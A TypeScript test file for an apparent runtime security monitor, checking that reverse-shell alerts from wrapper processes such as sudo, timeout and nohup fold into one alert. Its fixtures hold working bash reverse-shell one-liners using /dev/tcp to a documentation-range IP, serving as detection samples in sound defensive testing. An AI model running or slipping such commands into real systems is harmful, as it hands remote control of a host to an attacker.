import { expect, test } from 'vitest';
import { runtimeWatcher } from '../../../../src/actors/modules/runtime_watcher/detect.ts';
import { createAlertFolder, type FoldedAlert } from '../../../../src/actors/response/alert-folder.ts';
import type { SecurityEvent } from '../../../../src/domain/event.ts';
import { createPipeline } from '../../../../src/workers/pipeline.ts';

const START = 1_700_000_000_000;
const SHELL = ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'];

const quoted = (argv: readonly string[]): string => argv.map((word) => (/\s/.test(word) ? `'${word}'` : word)).join(' ');
const exec = (pid: number, parentPid: number, argv: readonly string[], atMs: number): SecurityEvent => ({
  id: `exec:${pid}:${atMs}`,
  at: START + atMs,
  source: 'process',
  module: 'process',
  type: 'process_exec',
  severity: 'INFO',
  summary: '',
  details: { process_name: argv[0], command_line: quoted(argv), argv, executable_path: `/usr/bin/${argv[0]}`, pid, parent_pid: parentPid, stdio: [] },
  entities: { process: { pid, startTime: pid * 10, exe: `/usr/bin/${argv[0]}` } },
  trust: 'sensor',
});
const alertsOf = (events: readonly SecurityEvent[]): readonly FoldedAlert[] => {
  const alerts: FoldedAlert[] = [];
  const folder = createAlertFolder((alert) => alerts.push(alert));
  const pipeline = createPipeline([runtimeWatcher], { modules: { runtime_watcher: runtimeWatcher.manifest.settings.parse({}) } });
  // Each alone, as the kernel tells them.
  for (const event of events) for (const finding of pipeline.events([event]).findings) folder.add(finding);
  folder.flush();
  return alerts.filter(({ type }) => type === 'reverse_shell');
};

test.each([
  ['timeout', ['timeout', '2']],
  ['sudo', ['sudo']],
  ['nohup', ['nohup']],
])('%s and the shell it starts are one alert about the wrapper: with it the shell is stopped, too', (_name, wrapper) => {
  const alerts = alertsOf([exec(100, 1, [...wrapper, ...SHELL], 0), exec(101, 100, SHELL, 3)]);
  expect(alerts.map(({ count, foldKey }) => [count, foldKey])).toEqual([[2, 'runtime_watcher:reverse_shell:process:100:1000']]);
  expect(alerts[0]?.entities.process?.pid).toBe(100);
  expect(alerts[0]?.eventIds).toEqual(['exec:100:0', 'exec:101:3']);
});

test('a wrapper in a wrapper is still the one attack', () => {
  const alerts = alertsOf([exec(100, 1, ['sudo', 'timeout', '2', ...SHELL], 0), exec(101, 100, ['timeout', '2', ...SHELL], 2), exec(102, 101, SHELL, 4)]);
  expect(alerts.map(({ count }) => count)).toEqual([3]);
});

test.each([
  ['later', exec(101, 100, SHELL, 5000)],
  ['of another parent', exec(101, 99, SHELL, 3)],
  ['of another command', exec(101, 100, ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.200/1 0>&1'], 3)],
])('a shell %s is an attack of its own', (_what, second) => {
  expect(alertsOf([exec(100, 1, ['timeout', '2', ...SHELL], 0), second]).map(({ count }) => count)).toEqual([1, 1]);
});
